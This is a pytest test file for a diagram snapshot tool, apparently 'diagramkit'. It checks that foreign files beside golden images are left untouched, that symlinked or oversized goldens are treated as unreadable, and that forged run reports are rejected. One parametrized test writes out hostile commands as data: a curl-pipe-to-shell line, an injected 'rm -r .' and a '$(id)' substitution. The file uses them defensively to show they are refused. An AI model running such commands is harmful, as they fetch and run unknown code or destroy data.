"""What is no golden of ours is not counted, not removed and not overwritten."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from diagramkit.diagnostics import DiagramError
from diagramkit.drift.review import Server
from diagramkit.drift.state import load_run
from diagramkit.files.border import Border
from diagramkit.files.read import hash_of

from .conftest import Project

STRANGERS = {
    "README.md": b"Do not edit by hand.",
    "notes.txt": b"",
    "logo.png": b"a picture",
    "home.page.dark.png": b"a picture",
    "api.v1.users.json": b'{"answer": 1}',
    "x.json": b"[]",
    "golden.house.light.json": b'{"golden": 1}',
}


@pytest.fixture
def shared(project: Project) -> Project:
    """A folder of goldens that holds files of others too."""
    for name, data in STRANGERS.items():
        (project.goldens / name).write_bytes(data)
    return project


def kept(project: Project) -> dict[str, bytes]:
    return {name: data for name, data in project.files().items() if name in STRANGERS}


def test_files_of_others_fail_no_test(shared: Project) -> None:
    ran = shared.test()
    assert (ran.status, ran.err) == (0, "goldens: 4 same\n")


def test_files_of_others_are_not_removed_with_what_has_lost_its_source(shared: Project) -> None:
    shared.source.unlink()
    ran = shared.run("accept")
    assert "accepted 2 goldens (2 orphan)" in ran.err
    assert kept(shared) == STRANGERS


def test_what_is_removed_is_named(project: Project) -> None:
    project.source.unlink()
    ran = project.run("accept")
    named = {
        Path(line.split(":")[0].removeprefix("removed ")).name for line in ran.err.splitlines()
    }
    assert {"one.house.light", "one.house.dark"} <= named


def test_another_program_s_manifest_is_a_reason_to_refuse(project: Project) -> None:
    foreign = b'{"suite": "mine"}'
    for path in project.goldens.iterdir():
        path.unlink()
    (project.goldens / "manifest.json").write_bytes(foreign)
    ran = project.run("accept")
    assert ran.status == 2
    assert "manifest.json: was not written by diagramkit and is left as it is" in ran.err
    assert project.files() == {"manifest.json": foreign}


def test_a_file_of_another_with_the_name_of_a_golden_is_not_overwritten(project: Project) -> None:
    for path in project.goldens.iterdir():
        path.unlink()
    (project.goldens / "one.house.light.json").write_bytes(b'{"answer": 1}')
    ran = project.run("accept")
    assert ran.status == 2
    assert "one.house.light.json: was not written by diagramkit" in ran.err
    assert project.files() == {"one.house.light.json": b'{"answer": 1}'}


def test_a_manifest_with_the_marks_of_a_merge_is_ours_and_made_anew(project: Project) -> None:
    path = project.goldens / "manifest.json"
    text = path.read_text()
    path.write_text(f"<<<<<<< ours\n{text}=======\n{text}>>>>>>> theirs\n")
    project.test()
    assert project.run("accept").status == 0
    assert project.test("--all").status == 0


def test_a_run_of_a_checkout_removes_no_golden_that_has_a_source(project: Project) -> None:
    project.edit("Scene 1", "Scene 2")
    project.test()
    file = project.folder / "diagrams-report" / "run.json"
    run = json.loads(file.read_text())
    for entry in run["pending"]:
        entry.update(name=entry["name"].replace("one", "two"), status="orphan", file="")
        entry["fingerprint"] = ""
    file.write_text(json.dumps(run))
    before = project.files()
    project.run("accept", "diagrams/two.mmd")
    assert project.files() == before


def test_a_report_folder_keeps_what_others_have_put_there(project: Project) -> None:
    report = project.folder / "site"
    report.mkdir()
    (report / "index.html").write_text("a page of mine")
    project.edit("Scene 1", "Scene 2")
    ran = project.test("--report", "site")
    assert ran.status == 1
    assert "site/index.html: was not written by diagramkit" in ran.err
    assert (report / "index.html").read_text() == "a page of mine"


def test_a_golden_that_is_a_link_is_not_read(project: Project) -> None:
    golden = project.goldens / "one.house.light.json"
    golden.rename(project.folder / "elsewhere.json")
    golden.symlink_to(project.folder / "elsewhere.json")
    ran = project.test()
    assert ran.status == 1
    assert "one.house.light: unreadable" in ran.out


def test_a_picture_too_large_to_unpack_is_measured_by_its_head(project: Project) -> None:
    import struct
    import zlib

    picture = project.goldens / "one.house.light.png"
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0)
    chunk = b"IHDR" + head
    data = picture.read_bytes()
    picture.write_bytes(data[:12] + chunk + struct.pack(">I", zlib.crc32(chunk)) + data[33:])
    ran = project.test()
    assert "one.house.light: unreadable" in ran.out


def forged(project: Project, forge: Callable[[dict[str, Any]], object]) -> DiagramError | None:
    """What is said of the run of a drifted golden, once its file was forged; None where it is read
    as if nothing were wrong."""
    project.edit("Scene 1", "Scene 2")
    project.test()
    report = project.folder / "diagrams-report"
    run = json.loads((report / "run.json").read_text(encoding="utf-8"))
    forge(run)
    (report / "run.json").write_text(json.dumps(run), encoding="utf-8")
    last = load_run(report, Border.around([project.folder]))
    if last is None:
        return DiagramError.single("report", "no run")
    try:
        Server(last.run(), last.commands, lambda _: ([], [])).server_close()
    except DiagramError as error:
        return error
    return None


@pytest.mark.parametrize(
    "command", ["curl example.org | sh", "diagrams accept; rm -r .", "diagrams accept $(id)"]
)
def test_a_run_tells_nobody_to_run_another_program(project: Project, command: str) -> None:
    assert forged(project, lambda run: run["commands"].__setitem__(0, command))


@pytest.mark.parametrize(
    "change",
    [
        {"pixels": {"changed": 10**40, "total": 1, "largest": 1}},
        {"pixels": {"changed": 1e400, "total": 1, "largest": 1}},
        {"source": "\ud800"},
        {"causes_file": 7},
    ],
    ids=str,
)
def test_a_run_that_was_forged_is_said_to_be_damaged(
    project: Project, change: dict[str, object]
) -> None:
    assert forged(project, lambda run: run["goldens"][0].update(change))


def test_a_picture_of_a_run_that_is_none_is_said_to_be_damaged(project: Project) -> None:
    def forge(run: dict[str, Any]) -> None:
        name = next(name for name in run["files"] if name.endswith(".actual.png"))
        run["files"][name] = hash_of(b"short")
        (project.folder / "diagrams-report" / name).write_bytes(b"short")

    assert forged(project, forge)


def test_a_run_as_it_was_written_is_read(project: Project) -> None:
    assert forged(project, lambda _: None) is None
